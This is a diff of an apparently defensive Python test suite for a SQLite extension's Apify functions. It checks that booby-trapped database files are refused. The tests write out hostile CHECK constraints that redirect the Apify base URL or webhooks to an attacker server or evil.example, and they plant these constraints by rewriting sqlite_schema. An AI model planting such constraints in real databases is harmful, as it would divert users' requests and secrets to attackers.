@@ -507,7 +507,7 @@ class CheckConstraints(HostileCase):
         trap = RecordingServer(lambda raw: created(raw))
         self.addCleanup(trap.stop)
         target = q(trap.base_url)
-        spellings = [
+        spellings = [   # (the function the guard names, the CHECK's expression)
             ("apify_config", f"apify_config('base_url', {target}) IS NOT NULL"),
             ("apify_config", f'"APIFY_CONFIG"(\'base_url\', {target}) IS NOT NULL'),
             ("apify_config", f"[Apify_Config]('base_url', {target}) IS NOT NULL"),
@@ -519,32 +519,79 @@ class CheckConstraints(HostileCase):
             ("apify_create_webhook", "APIFY_CREATE_WEBHOOK(replace(x, 'victim.example',"
                                      " 'evil.example')) IS NOT NULL"),
         ]
+        spellings.append(("apify_test_webhook", "apify_test_webhook(x) IS NOT NULL"))
         for i, (function, check) in enumerate(spellings):
             for where in ("main", "aux"):
-                with self.subTest(check=check, where=where):
-                    self.emu.reset()
-                    db = self.path(f"ck{i}-{where}.db")
-                    r = shell(f"CREATE TABLE notes(x TEXT, CONSTRAINT c CHECK ({check}));\n",
-                              self.emu, db=db, token=None)
-                    self.assertEqual((r.rc, r.err), (0, ""), r)
-                    prefix = (f"ATTACH {q(db)} AS aux;\n" if where == "aux" else "")
-                    r = self.victim(
-                        prefix
-                        + f"INSERT INTO {where}.notes VALUES ('raise the Apify config timeout');\n"
-                        f"INSERT INTO {where}.notes VALUES ({q(OWN)});\n"
-                        "SELECT apify_config('timeout_ms', 60000); -- raise the apify config"
-                        " timeout\n"
-                        f"SELECT apify_create_webhook({q(OWN)}) ->> 'id';\n"
-                        "SELECT apify_config('base_url');\n" + ACTORS + BULK,
-                        db=db if where == "main" else ":memory:")
-                    message = self.REFUSED.format(function, db=where)
-                    self.assertEqual(errors(r), [message] * 5, r)
-                    # Whatever was refused, nothing reached the attacker, and the base URL is
-                    # still the victim's.
-                    self.assertEqual(trap.requests, [])
-                    self.assertNotIn(trap.base_url, r.out)
-                    # The victim's own INSERT into apify_webhooks went to the real base URL.
-                    self.assertOnlyOwnSent(1)
+                for build in ("extension", "writable_schema"):
+                    if function == "apify_test_webhook" and build == "extension":
+                        continue    # not a function of a release build: CREATE TABLE refuses
+                    with self.subTest(check=check, where=where, build=build):
+                        self.emu.reset()
+                        db = self.path(f"ck{i}-{where}-{build}.db")
+                        self.check_file(db, f"x TEXT, CONSTRAINT c CHECK ({check})", build)
+                        self.victim_on(db, where, function, trap)
+
+    def check_file(self, db, columns, build):
+        """A file with the table notes(columns), built as an attacker would: with the extension
+        loaded and no token (SQLite 3.40 refuses an unknown function in a CHECK at CREATE
+        TABLE), or without it, by rewriting sqlite_schema (any SQLite, no extension at all)."""
+        if build == "extension":
+            r = shell(f"CREATE TABLE notes({columns});\n", self.emu, db=db, token=None)
+            self.assertEqual((r.rc, r.err), (0, ""), r)
+            return
+        plant(db, "CREATE TABLE notes(x TEXT);")
+        conn = sqlite3.connect(db)
+        try:
+            version = conn.execute("PRAGMA schema_version").fetchone()[0]
+            conn.execute("PRAGMA writable_schema=ON")
+            conn.execute("UPDATE sqlite_schema SET sql = ? WHERE name = 'notes'",
+                         (f"CREATE TABLE notes({columns})",))
+            conn.execute(f"PRAGMA schema_version={version + 1}")
+            conn.commit()
+        finally:
+            conn.close()
+
+    def victim_on(self, db, where, function, trap):
+        """The victim's work on db (main) or with db ATTACHed as aux: notes that mention the
+        function (the old LIKE guard let such statements through), a setting raised, their own
+        webhook through the function and through the table."""
+        prefix = (f"ATTACH {q(db)} AS aux;\n" if where == "aux" else "")
+        r = self.victim(
+            prefix
+            + f"INSERT INTO {where}.notes(x) VALUES ('raise the Apify config timeout');\n"
+            f"INSERT INTO {where}.notes(x) VALUES ({q(OWN)});\n"
+            "SELECT apify_config('timeout_ms', 60000); -- raise the apify config timeout\n"
+            f"SELECT apify_create_webhook({q(OWN)}) ->> 'id';\n"
+            "SELECT apify_config('base_url');\n" + ACTORS + BULK,
+            db=db if where == "main" else ":memory:")
+        message = self.REFUSED.format(function, db=where)
+        found = errors(r)
+        if function == "apify_test_webhook":     # the notes fail on the unknown function
+            found = [m.group(1) for m in re.finditer(
+                r"^(?:Runtime|Parse) error near line \d+: (.*)$", r.err, re.M)]
+            self.assertEqual(found, ["unknown function: apify_test_webhook()"] * 2
+                             + [message] * 3, r)
+        else:
+            self.assertEqual(found, [message] * 5, r)
+        # Whatever was refused, nothing reached the attacker, and the base URL is still the
+        # victim's; the victim's own INSERT into apify_webhooks went to the real base URL.
+        self.assertEqual(trap.connections, 0)
+        self.assertNotIn(trap.base_url, r.out)
+        self.assertOnlyOwnSent(1)
+
+    def test_check_constraint_in_a_column_and_a_table_constraint(self):
+        # Two CHECKs, the guarded name only in the second, behind a string that holds a
+        # quote, a parenthesis and a comment opener.
+        trap = RecordingServer(lambda raw: created(raw))
+        self.addCleanup(trap.stop)
+        for build in ("extension", "writable_schema"):
+            with self.subTest(build=build):
+                self.emu.reset()
+                db = self.path(f"two-{build}.db")
+                self.check_file(db, "x TEXT CHECK (x <> 'it''s (not /* here') ,"
+                                f" y, CHECK (apify_config('base_url', {q(trap.base_url)})"
+                                " IS NOT NULL)", build)
+                self.victim_on(db, "main", "apify_config", trap)
 
 
 # -- 5. the network around the request ---------------------------------------------------------
